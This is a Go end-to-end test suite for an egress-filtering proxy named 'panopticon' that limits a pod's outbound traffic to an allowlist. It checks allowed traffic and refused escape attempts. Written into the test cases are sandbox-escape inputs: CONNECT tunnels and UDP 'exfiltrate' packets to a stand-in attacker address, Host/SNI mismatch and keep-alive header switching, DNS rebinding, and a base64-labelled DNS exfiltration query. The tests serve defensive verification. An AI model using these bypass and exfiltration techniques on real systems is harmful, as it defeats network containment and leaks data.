//go:build e2e

package e2e

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"
)

// egressAllowlist is the policy TestEgress runs under.
const egressAllowlist = `# e2e allowlist
allowed.test
*.wild.test      # every subdomain and wild.test itself
alt.test:8443
private.test     # resolves to 10.0.0.5: the private-address guard must still refuse it
rebind.test      # resolves to 127.0.0.1
`

// failFast is how long a blocked attempt may take before it counts as a hang.
const failFast = 2 * time.Second

// TestEgress runs panopticon with egressAllowlist and plays the agent as uid
// 1000 against every door out of the pod. One testbed serves all cases; each
// case marks the recorders first and checks only what happened after.
func TestEgress(t *testing.T) {
	t.Parallel()
	tb := NewTestbed(t)
	p := tb.StartPanopticon(t, egressAllowlist)
	app := tb.App(t)

	t.Run("allowed https", func(t *testing.T) {
		m := tb.Mark()
		r := app.Curl("https://allowed.test/")
		if !r.Is(200) || r.Body != "hello from allowed.test" {
			t.Fatalf("curl https://allowed.test/: %s", r)
		}
		reqs := tb.Host("allowed.test").Requests(m[&tb.Host("allowed.test").recorder])
		if len(reqs) != 1 || reqs[0].Host != "allowed.test" || reqs[0].SNI != "allowed.test" || reqs[0].Path != "/" {
			t.Errorf("upstream saw %+v, want one GET / with Host and SNI allowed.test", reqs)
		}
	})

	t.Run("request headers and body reach the upstream", func(t *testing.T) {
		r := app.Curl("https://allowed.test/echo?q=1", "-H", "X-Agent: yes", "--data-binary", "payload-123")
		if !r.Is(200) {
			t.Fatalf("curl: %s", r)
		}
		var echo struct {
			Method, Host, Query, Body string
			Header                    map[string][]string
		}
		if err := json.Unmarshal([]byte(r.Body), &echo); err != nil {
			t.Fatalf("echo body %q: %v", r.Body, err)
		}
		if echo.Method != "POST" || echo.Host != "allowed.test" || echo.Query != "q=1" || echo.Body != "payload-123" ||
			!slices.Equal(echo.Header["X-Agent"], []string{"yes"}) {
			t.Errorf("upstream echoed %+v", echo)
		}
	})

	t.Run("plain http to an allowed host", func(t *testing.T) {
		m := tb.Mark()
		if r := app.Curl("http://allowed.test/"); !r.Is(200) || r.Body != "hello from allowed.test" {
			t.Fatalf("curl http://allowed.test/: %s", r)
		}
		AssertSeen(t, m, tb.Host("allowed.test"))
	})

	t.Run("websocket", func(t *testing.T) {
		r := app.Agent("ws", "wss://allowed.test/ws", "hello through panopticon")
		if !r.OK || r.Got != "hello through panopticon" {
			t.Fatalf("ws echo: %s", r)
		}
	})

	t.Run("server-sent events are streamed, not buffered", func(t *testing.T) {
		r := app.Agent("sse", "https://allowed.test/sse")
		if !r.OK || r.Got != "1,2,3" {
			t.Fatalf("sse: %s", r)
		}
		// The server sends at 0, 200 and 400 ms; a buffering proxy delivers all at once.
		if gap := r.Events[2] - r.Events[0]; gap < 250 {
			t.Errorf("events arrived at %v ms: first and last only %d ms apart, want ≥ 250 (buffered?)", r.Events, gap)
		}
	})

	t.Run("large download", func(t *testing.T) {
		const n = "20000000"
		r := app.Run(30*time.Second, "curl", "-sS", "--http1.1", "--max-time", "25", "-o", "/dev/null",
			"-w", "%{http_code} %{size_download}", "https://allowed.test/big?n="+n)
		if r.Exit != 0 || r.Stdout != "200 "+n {
			t.Fatalf("download: %s", r)
		}
		t.Logf("20 MB in %v", r.Dur.Round(time.Millisecond))
	})

	t.Run("wildcard", func(t *testing.T) {
		for _, host := range []string{"api.wild.test", "wild.test"} {
			if r := app.Curl("https://" + host + "/"); !r.Is(200) || r.Body != "hello from "+host {
				t.Errorf("curl https://%s/ (allowed by *.wild.test): %s", host, r)
			}
		}
		m := tb.Mark()
		r := app.Curl("https://xwild.test/", "--resolve", "xwild.test:443:203.0.113.14")
		assertBlocked(t, r, "not-allowlisted")
		AssertUnseen(t, m, tb.Host("xwild.test"))
	})

	t.Run("host:port entry", func(t *testing.T) {
		m := tb.Mark()
		if r := app.Curl("https://alt.test:8443/"); !r.Is(200) || r.Body != "hello from alt.test" {
			t.Errorf("curl https://alt.test:8443/ (allowed by alt.test:8443): %s", r)
		}
		AssertSeen(t, m, tb.Host("alt.test"))
		m = tb.Mark()
		assertBlocked(t, app.Curl("https://alt.test/"), "port-not-allowed")
		AssertUnseen(t, m, tb.Host("alt.test"))
	})

	t.Run("not allowlisted", func(t *testing.T) {
		m := tb.Mark()
		// The app's own lookup fails: DNS answers NXDOMAIN.
		if r := app.Curl("https://denied.test/"); r.Status != 0 || r.Exit != 6 {
			t.Errorf("curl https://denied.test/: %s; want curl exit 6 (could not resolve)", r)
		}
		// An app that knows the address gets a 403 with a reason.
		r := app.Curl("https://denied.test/", "--resolve", "denied.test:443:203.0.113.20")
		assertBlocked(t, r, "not-allowlisted")
		assertFast(t, r.Dur)
		AssertUnseen(t, m, tb.Host("denied.test"))
		if tb.DNS.Asked(m, "denied.test") {
			t.Errorf("upstream DNS was asked for denied.test: %v", tb.DNS.Saw())
		}
	})

	t.Run("private address guard", func(t *testing.T) {
		m := tb.Mark()
		// private.test is allowlisted but resolves to 10.0.0.5.
		r := app.Curl("https://private.test/", "--resolve", "private.test:443:203.0.113.10")
		assertBlocked(t, r, "private-address")
		AssertUnseen(t, m, tb.Host("allowed.test"))
	})

	t.Run("ip literal", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct {
			url  string
			args []string
		}{
			{"https://203.0.113.10/", []string{"-k"}},
			{"http://203.0.113.10/", nil},
		} {
			r := app.Curl(c.url, c.args...)
			if r.Status != 0 {
				assertBlocked(t, r, "ip-literal")
			}
			if strings.Contains(r.Body, "hello from") {
				t.Errorf("curl %s reached the upstream: %s", c.url, r)
			}
			assertFast(t, r.Dur)
		}
		AssertUnseen(t, m, tb.Host("allowed.test"))
	})

	t.Run("host header differs from sni", func(t *testing.T) {
		m := tb.Mark()
		r := app.Curl("https://allowed.test/", "-H", "Host: denied.test")
		assertBlocked(t, r, "host-mismatch")
		AssertUnseen(t, m, tb.Host("denied.test"))
		for _, rq := range tb.Host("allowed.test").Requests(m[&tb.Host("allowed.test").recorder]) {
			if rq.Host != "allowed.test" {
				t.Errorf("allowed.test received a request for Host %q", rq.Host)
			}
		}
	})

	t.Run("host header changes on a kept-alive connection", func(t *testing.T) {
		m := tb.Mark()
		r := app.Agent("keepalive", "https://allowed.test/", "denied.test")
		if !strings.HasPrefix(r.Got, "200 ") {
			t.Errorf("first request (Host allowed.test) should succeed: %s", r)
		}
		if r.Status == 200 {
			t.Errorf("second request (Host denied.test) on the same connection succeeded: %s", r)
		}
		AssertUnseen(t, m, tb.Host("denied.test"))
		for _, rq := range tb.Host("allowed.test").Requests(m[&tb.Host("allowed.test").recorder]) {
			if rq.Host != "allowed.test" {
				t.Errorf("allowed.test received a request for Host %q", rq.Host)
			}
		}
	})

	t.Run("the transparent port is not a forward proxy", func(t *testing.T) {
		m := tb.Mark()
		for _, addr := range []string{"127.0.0.1:8080", "[::1]:8080", PodIP + ":8080"} {
			for _, req := range []string{
				"CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n",
				"GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n",
				"CONNECT " + AttackerIP + ":9999 HTTP/1.1\r\nHost: " + AttackerIP + ":9999\r\n\r\n",
			} {
				r := app.Agent("tcp", addr, req)
				if strings.Contains(r.Got, " 200 ") || strings.Contains(r.Got, "ATTACKER") {
					t.Errorf("%s %q: %s", addr, req, r)
				}
			}
		}
		AssertUnseen(t, m, tb.Host("denied.test"), tb.Attacker)
	})

	t.Run("the app cannot reach the dashboard", func(t *testing.T) {
		for _, addr := range []string{"127.0.0.1:8081", "[::1]:8081", PodIP + ":8081"} {
			if r := app.Agent("tcp", addr, "GET / HTTP/1.0\r\n\r\n"); r.OK {
				t.Errorf("connected to the dashboard at %s: %s", addr, r)
			}
		}
	})

	t.Run("allowed name pointed at the attacker's address", func(t *testing.T) {
		m := tb.Mark()
		r := app.Curl("https://allowed.test/", "--resolve", "allowed.test:443:"+AttackerIP)
		if !r.Is(200) || r.Body != "hello from allowed.test" {
			t.Errorf("want the real allowed.test: %s", r)
		}
		AssertSeen(t, m, tb.Host("allowed.test"))
		r = app.Curl("https://allowed.test:9999/", "--resolve", "allowed.test:9999:"+AttackerIP)
		if r.Status != 0 {
			assertBlocked(t, r, "port-not-allowed")
		}
		AssertUnseen(t, m, tb.Attacker)
	})

	t.Run("other tcp ports", func(t *testing.T) {
		for _, addr := range []string{AttackerIP + ":22", AttackerIP + ":9999", AttackerIP + ":853", "203.0.113.10:22"} {
			m := tb.Mark()
			r := app.Agent("tcp", addr)
			if strings.Contains(r.Got, "ATTACKER") || strings.Contains(r.Got, "hello") {
				t.Errorf("tcp %s got through: %s", addr, r)
			}
			AssertUnseen(t, m, tb.Attacker)
			if time.Duration(r.MS)*time.Millisecond > failFast {
				t.Errorf("tcp %s: blocked attempt took %d ms, want < %v: %s", addr, r.MS, failFast, r)
			}
		}
	})

	t.Run("udp", func(t *testing.T) {
		for _, addr := range []string{AttackerIP + ":9999", AttackerIP + ":443", "[" + AttackerIPv6 + "]:9999", "[" + AttackerIPv6 + "]:443"} {
			m := tb.Mark()
			r := app.Agent("udp", addr, "exfiltrate")
			if r.OK {
				t.Errorf("udp %s got a reply: %s", addr, r)
			}
			AssertUnseen(t, m, tb.Attacker)
			if time.Duration(r.MS)*time.Millisecond > failFast {
				t.Errorf("udp %s: blocked attempt took %d ms, want < %v: %s", addr, r.MS, failFast, r)
			}
		}
	})

	t.Run("icmp", func(t *testing.T) {
		for _, addr := range []string{AttackerIP, AttackerIPv6} {
			m := tb.Mark()
			r := app.Agent("ping", addr)
			if r.OK {
				t.Errorf("ping %s answered: %s", addr, r)
			}
			AssertUnseen(t, m, tb.Attacker)
			if time.Duration(r.MS)*time.Millisecond > failFast {
				t.Errorf("ping %s: blocked attempt took %d ms, want < %v: %s", addr, r.MS, failFast, r)
			}
		}
	})

	t.Run("ipv6 tcp", func(t *testing.T) {
		m := tb.Mark()
		r := app.Curl("https://["+AttackerIPv6+"]/", "-6", "-k")
		if r.Status != 0 {
			assertBlocked(t, r, "ip-literal") // no SNI for an address
		}
		assertFast(t, r.Dur)
		for _, port := range []string{"443", "9999", "22"} {
			a := app.Agent("tcp", "["+AttackerIPv6+"]:"+port)
			if strings.Contains(a.Got, "ATTACKER") {
				t.Errorf("tcp [%s]:%s got through: %s", AttackerIPv6, port, a)
			}
		}
		AssertUnseen(t, m, tb.Attacker)
	})

	t.Run("dns", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct {
			server, name, qtype, transport string
			rcode                          string
			answers                        []string
		}{
			{UpstreamDNS, "allowed.test", "A", "udp", "NOERROR", []string{"203.0.113.10"}},
			{UpstreamDNS, "ALLOWED.test", "A", "tcp", "NOERROR", []string{"203.0.113.10"}},
			{UpstreamDNS, "api.wild.test", "A", "udp", "NOERROR", []string{"203.0.113.11"}},
			{UpstreamDNS, "wild.test", "A", "udp", "NOERROR", []string{"203.0.113.13"}},
			{UpstreamDNS, "denied.test", "A", "udp", "NXDOMAIN", nil},
			{UpstreamDNS, "denied.test", "A", "tcp", "NXDOMAIN", nil},
			{UpstreamDNS, "xwild.test", "A", "udp", "NXDOMAIN", nil},
			{UpstreamDNS, "c2VjcmV0.denied.test", "TXT", "udp", "NXDOMAIN", nil},
			// A resolver the app picks itself is answered by panopticon, too.
			{DirectDNSIP + ":53", "allowed.test", "A", "udp", "NOERROR", []string{"203.0.113.10"}},
			{DirectDNSIP + ":53", "denied.test", "A", "tcp", "NXDOMAIN", nil},
			{AttackerIP + ":53", "evil.test", "A", "udp", "NXDOMAIN", nil},
		} {
			args := []string{"dns", c.server, c.name, c.qtype}
			if c.transport == "tcp" {
				args = append(args, "tcp")
			}
			r := app.Agent(args...)
			if r.Rcode != c.rcode || !slices.Equal(r.Answers, c.answers) {
				t.Errorf("%s %s via %s/%s: %s; want %s %v", c.qtype, c.name, c.server, c.transport, r, c.rcode, c.answers)
			}
		}
		for _, name := range []string{"denied.test", "xwild.test", "c2VjcmV0.denied.test", "evil.test"} {
			if tb.DNS.Asked(m, name) {
				t.Errorf("upstream DNS was asked for %s", name)
			}
		}
		AssertUnseen(t, m, tb.DirectDNS, tb.Attacker)
	})

	t.Run("dns refuses answers into private ranges", func(t *testing.T) {
		for _, c := range []struct{ name, private string }{{"rebind.test", "127.0.0.1"}, {"private.test", "10.0.0.5"}} {
			r := app.Agent("dns", UpstreamDNS, c.name, "A")
			if slices.Contains(r.Answers, c.private) || r.Rcode == "NOERROR" && len(r.Answers) > 0 {
				t.Errorf("%s: %s; want no answer into %s", c.name, r, c.private)
			}
		}
	})

	t.Run("the app as uid 1337 cannot get out", func(t *testing.T) {
		as1337 := tb.AppAs(t, 1337, 1337)
		if r := as1337.Agent("id"); r.Got != "uid=1337 gid=1337" {
			t.Fatalf("id: %s", r)
		}
		m := tb.Mark()
		if r := as1337.Agent("tcp", AttackerIP+":9999"); strings.Contains(r.Got, "ATTACKER") {
			t.Errorf("tcp as uid 1337 got through: %s", r)
		}
		if r := as1337.Agent("udp", AttackerIP+":9999", "exfiltrate"); r.OK {
			t.Errorf("udp as uid 1337 got a reply: %s", r)
		}
		if r := as1337.Agent("tcp", "["+AttackerIPv6+"]:9999"); strings.Contains(r.Got, "ATTACKER") {
			t.Errorf("tcp v6 as uid 1337 got through: %s", r)
		}
		r := as1337.Curl("https://denied.test/", "--resolve", "denied.test:443:203.0.113.20", "-k")
		if r.Is(200) {
			t.Errorf("uid 1337 reached denied.test: %s", r)
		}
		AssertUnseen(t, m, tb.Attacker, tb.Host("denied.test"))
	})

	t.Run("flow log", func(t *testing.T) {
		for _, m := range []FlowMatch{
			{Kind: "egress", Decision: "allow", Host: "allowed.test", Port: 443},
			{Kind: "egress", Decision: "allow", Host: "allowed.test", Port: 80},
			{Kind: "egress", Decision: "allow", Host: "alt.test", Port: 8443},
			{Kind: "egress", Decision: "allow", Host: "wild.test", Port: 443},
			{Kind: "egress", Decision: "block", Reason: "not-allowlisted", Host: "denied.test", Port: 443},
			{Kind: "egress", Decision: "block", Reason: "not-allowlisted", Host: "xwild.test", Port: 443},
			{Kind: "egress", Decision: "block", Reason: "port-not-allowed", Host: "alt.test", Port: 443},
			{Kind: "egress", Decision: "block", Reason: "ip-literal"},
			{Kind: "egress", Decision: "block", Reason: "private-address", Host: "private.test"},
			{Kind: "dns", Decision: "allow", Host: "allowed.test"},
			{Kind: "dns", Decision: "block", Reason: "not-allowlisted", Host: "denied.test"},
		} {
			p.WaitFlow(t, m)
		}
		if f := p.WaitFlow(t, FlowMatch{Kind: "egress", Decision: "allow", Host: "allowed.test", Port: 443}); f.raw != "" {
			if f.Method == "" || f.Status == 0 || f.Path == "" {
				t.Errorf("allowed egress event lacks method/status/path: %s", f)
			}
			// allowed.test is line 2 of the allowlist.
			if f.Rule != "allowed.test" || !strings.HasSuffix(f.RuleSrc, "allowlist.txt:2") {
				t.Errorf("allowed egress event does not name the line that allowed it: %s", f)
			}
		}
		if f := p.WaitFlow(t, FlowMatch{Kind: "dns", Decision: "allow", Host: "allowed.test"}); f.raw != "" {
			if f.Rule != "allowed.test" || !strings.HasSuffix(f.RuleSrc, "allowlist.txt:2") {
				t.Errorf("allowed DNS event does not name the line that allowed it: %s", f)
			}
		}
		for _, f := range p.Flows(t) {
			if f.Time == "" || f.Kind == "" || f.Decision == "" {
				t.Errorf("flow event lacks time/kind/decision: %s", f)
			}
			if _, err := time.Parse(time.RFC3339, f.Time); err != nil {
				t.Errorf("flow event time %q is not RFC 3339: %s", f.Time, f)
			}
		}
	})

	t.Run("still serving after all that", func(t *testing.T) {
		if p.Exited() {
			t.Fatalf("panopticon exited:\n%s", p.Output())
		}
		if r := app.Curl("https://allowed.test/"); !r.Is(200) {
			t.Errorf("curl https://allowed.test/: %s", r)
		}
	})
}

// assertBlocked checks panopticon's refusal: 403, X-Panopticon-Block (equal to
// reason when given) and a one-line plain-text body.
func assertBlocked(t *testing.T, r CurlResult, reason string) {
	t.Helper()
	if !r.Is(403) {
		t.Errorf("want 403 from panopticon, got %s", r)
		return
	}
	got := r.Header.Get("X-Panopticon-Block")
	switch {
	case got != reason:
		t.Errorf("X-Panopticon-Block = %q, want %q: %s", got, reason, r)
	}
	body := strings.TrimRight(r.Body, "\r\n")
	if body == "" || strings.Contains(body, "\n") {
		t.Errorf("want a one-line reason body, got %q", r.Body)
	}
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Errorf("Content-Type = %q, want text/plain", ct)
	}
}

func assertFast(t *testing.T, d time.Duration) {
	t.Helper()
	if d > failFast {
		t.Errorf("blocked attempt took %v, want < %v (fail fast, not hang)", d.Round(time.Millisecond), failFast)
	}
}
